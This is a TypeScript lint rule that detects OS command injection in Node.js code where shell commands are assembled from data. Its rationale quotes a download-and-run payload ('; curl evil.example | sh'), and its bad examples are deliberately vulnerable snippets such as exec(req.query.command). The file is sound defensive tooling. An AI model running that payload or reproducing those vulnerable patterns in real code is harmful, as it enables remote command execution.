// Data put together into a command line that a shell will read.
import type { TSESTree } from '@typescript-eslint/types';
import { calleeOf, nameOf } from '../../src/gates/code/ast/names.ts';
import { dataOf, outlineOf, partsOf } from '../../src/gates/code/ast/data.ts';
import { inspectCalls } from '../../src/gates/code/ast/inspect.ts';
import type { Call } from '../../src/gates/code/ast/inspect.ts';
import { isRequestData } from '../../src/gates/code/ast/request.ts';
import type { Node, SourceFile } from '../../src/gates/code/ast/source-file.ts';
import { constantProperty, elementsOf, textOf } from '../../src/gates/code/ast/values.ts';
import { defineCodeRule } from '../../src/gates/code/rule.ts';

const shellCalls = /^(?:child_process\.(?:exec|execSync)|shelljs\.exec|execa\.(?:execaCommand|execaCommandSync|command|commandSync)|shell-exec|node-cmd\.(?:run|get|runSync)|child-process-promise\.exec|node-exec-promise\.exec)$/;
const programCalls = /^(?:child_process\.(?:spawn|spawnSync|execFile|execFileSync|fork)|execa(?:\.(?:execa|execaSync|sync|node))?|cross-spawn(?:\.(?:spawn|sync))?|nano-spawn|tinyexec\.(?:x|exec))$/;
const shells = /(?:^|[\\/])(?:sh|bash|zsh|dash|ksh|fish|cmd|powershell|pwsh)(?:\.exe)?$/i;
const commandFlags = /^(?:-\w*c|\/[cks]|-command|-encodedcommand)$/i;
const quoting = /(?:quote|escape|sanitize)\w*(?:\(\))?$/i;

/** True for what is not yet one word for the shell. Calls that quote or escape by name are trusted to do so. */
function isUnquoted(node: Node, file: SourceFile): boolean {
  return node.type !== 'CallExpression' || !quoting.test(nameOf(node.callee, file) ?? file.textOf(node.callee).slice(-40));
}

function isBuiltFromData(node: Node | undefined, file: SourceFile): boolean {
  if (node === undefined) return false;
  const parts = partsOf(node, file);
  const data = dataOf(parts).filter((each) => isUnquoted(each, file));
  const isPutTogether = /\S/.test(outlineOf(parts).replaceAll('\0', ''));
  return data.length > 0 && (isPutTogether || data.some((each) => isRequestData(each, file)));
}

function shellOption(call: Call, file: SourceFile): boolean {
  return call.arguments.slice(1).some((argument) => {
    const shell = constantProperty(argument, 'shell', file);
    return shell !== null && (shell.value === true || (typeof shell.value === 'string' && shell.value !== ''));
  });
}

function judgeProgram(call: Call, file: SourceFile): boolean {
  const [program, list] = call.arguments;
  const elements = elementsOf(list, file) ?? [];
  if (shellOption(call, file)) {
    const loose = elements.some((element) => element === null || dataOf(partsOf(element, file)).some((each) => isUnquoted(each, file)));
    return isBuiltFromData(program, file) || loose;
  }
  if (!shells.test(textOf(program, file) ?? '')) return false;
  const flag = elements.findIndex((element) => element !== null && commandFlags.test(textOf(element, file) ?? ''));
  return flag >= 0 && elements.slice(flag + 1, flag + 2).some((element) => element !== null && isBuiltFromData(element, file));
}

function commandOf(call: Call): TSESTree.CallExpressionArgument | undefined {
  return call.arguments[0];
}

export const rule = defineCodeRule({
  id: 'code/shell-command-from-data',
  title: 'Shell command put together from data',
  rationale:
    'The shell reads the finished text, not the pieces: whoever controls one piece adds `; curl evil.example | sh`, `$(…)` or `&&` and runs commands of their own with the rights of this process. In an agent, file names, branch names, model output and tool arguments are all such pieces.',
  remediation:
    "Run the program without a shell and hand each argument over by itself: `execFile('git', ['log', branch])` or `spawn` without `shell`. Put `--` before arguments that could begin with a dash. Where a shell is really needed, pass the data through the environment and write `\"$NAME\"` in a fixed script.",
  severity: 'high',
  confidence: 'medium',
  blocks: true,
  cwe: [78],
  references: [
    'https://cwe.mitre.org/data/definitions/78.html',
    'https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html',
    'https://nodejs.org/api/child_process.html#child_processexeccommand-options-callback',
  ],
  examples: {
    bad: [
      { code: "import { exec } from 'node:child_process';\nexport function log(branch: string) { exec(`git log ${branch}`); }" },
      { file: 'a.js', code: "const cp = require('child_process');\nmodule.exports = (dir) => { let cmd = 'ls -l '; cmd += dir; cp.execSync(cmd); };" },
      { code: "import * as cp from 'child_process';\nimport { promisify } from 'node:util';\nconst run = promisify(cp.exec);\nexport const show = (file: string) => run('cat ' + file);" },
      { code: "import { spawn } from 'node:child_process';\nexport const build = (target: string) => spawn('make', [target], { shell: true });" },
      { code: "import { spawn } from 'node:child_process';\nexport const find = (name: string) => spawn('bash', ['-c', `find . -name ${name}`]);" },
      { code: "import { exec } from 'child_process';\nexport const handler = (req: any) => exec(req.query.command);" },
      { code: "import cp from 'child_process';\nexport const add = (files: string[]) => { const list = ['git', 'add']; list.push(...files); cp.execSync(list.join(' ')); };" },
    ],
    good: [
      { code: "import { execFile } from 'node:child_process';\nexport function log(branch: string) { execFile('git', ['log', '--', branch]); }" },
      { code: "import { execSync } from 'node:child_process';\nconst flag = '--short';\nexport const head = execSync(`git rev-parse ${flag} HEAD`);" },
      { code: "import { execSync } from 'node:child_process';\nfor (const name of ['core', 'cli']) execSync(`npm run build -w ${name}`);" },
      { code: "import { exec } from 'node:child_process';\nexport const kill = (pid: number) => exec(`kill -9 ${pid}`);" },
      { code: "import { exec } from 'node:child_process';\nimport { quote } from 'shell-quote';\nexport const show = (file: string) => exec(`cat ${quote([file])}`);" },
      { code: "const pattern = /a(b)/;\nexport const find = (text: string) => pattern.exec('x' + text);" },
      { code: "import { spawn } from 'node:child_process';\nexport const git = (args: string[]) => spawn('git', args, { shell: false });" },
    ],
  },
  match: inspectCalls((call, file) => {
    const name = calleeOf(call, file);
    if (name === null) return null;
    const faulty = shellCalls.test(name) ? isBuiltFromData(commandOf(call), file) : programCalls.test(name) && judgeProgram(call, file);
    return faulty ? 'A shell reads this command, and part of it is data: pass arguments as a list to a program run without a shell.' : null;
  }),
});
